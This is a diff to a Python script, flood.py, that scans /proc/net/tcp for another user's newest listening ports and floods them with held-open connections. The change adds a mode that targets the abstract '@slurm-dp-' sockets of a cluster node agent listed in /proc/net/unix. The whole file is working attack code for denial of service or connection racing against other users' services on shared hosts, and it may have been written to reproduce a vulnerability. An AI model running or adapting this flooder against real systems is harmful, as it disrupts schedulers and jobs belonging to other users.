@@ -2,12 +2,15 @@
 # listening sockets of one uid (as /proc/net/tcp shows them to anyone) and
 # opens connections to the newest as fast as it can, keeping the last 400
 # open and never saying hello. Usage: flood.py UID ADDR LOG
+# With ADDR "agent" it floods the newest node agent's abstract socket instead
+# (/proc/net/unix lists every abstract name of the namespace to anyone).
 import collections, errno, os, socket, sys, time
 
 uid, addr, log = int(sys.argv[1]), sys.argv[2], sys.argv[3]
-hexaddr = "".join("%02X" % int(b) for b in reversed(addr.split(".")))
+agents = addr == "agent"
+hexaddr = "" if agents else "".join("%02X" % int(b) for b in reversed(addr.split(".")))
 
-def listening():
+def listening_ports():
     ports = []
     with open("/proc/1/net/tcp") as f:  # the host's, also from a node's namespace
         for line in f.readlines()[1:]:
@@ -18,35 +21,54 @@ def listening():
                 ports.append((int(w[9]), int(p, 16)))  # (inode, port): newest last
     return [p for _, p in sorted(ports)]
 
+def listening_agents():
+    names = []
+    with open("/proc/self/net/unix") as f:  # this namespace's
+        for line in f.readlines()[1:]:
+            w = line.split()
+            # Flags 00010000: a listening socket.
+            if len(w) >= 8 and w[3] == "00010000" and w[7].startswith("@slurm-dp-"):
+                names.append((int(w[6]), w[7]))
+    return [n for _, n in sorted(names)]
+
+def open_one(target):
+    if agents:
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.setblocking(False)
+        return s, s.connect_ex("\0" + target[1:])
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.setblocking(False)
+    return s, s.connect_ex((addr, target))
+
+listening = listening_agents if agents else listening_ports
 held = collections.deque()
 counts = collections.Counter()
 seen = set()
-port = None
+target = None
 last_scan = 0.0
 last_log = 0.0
 while True:
     now = time.monotonic()
     if now - last_scan > 0.01:
         last_scan = now
-        ports = listening()
-        new = [p for p in ports if p not in seen]
+        found = listening()
+        new = [t for t in found if t not in seen]
         if new:
-            port = new[-1]
+            target = new[-1]
             seen.update(new)
     if now - last_log > 0.2:
         last_log = now
         with open(log + ".tmp", "w") as f:
-            for p, n in counts.items():
-                f.write("port %d connections %d\n" % (p, n))
+            for t, n in counts.items():
+                f.write("target %s connections %d\n" % (t, n))
         os.replace(log + ".tmp", log)
-    if port is None:
+    if target is None:
         time.sleep(0.005)
         continue
     for _ in range(20):
-        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-        s.setblocking(False)
-        if s.connect_ex((addr, port)) in (0, errno.EINPROGRESS):
-            counts[port] += 1
+        s, rc = open_one(target)
+        if rc in (0, errno.EINPROGRESS):
+            counts[target] += 1
             held.append(s)
         else:
             s.close()
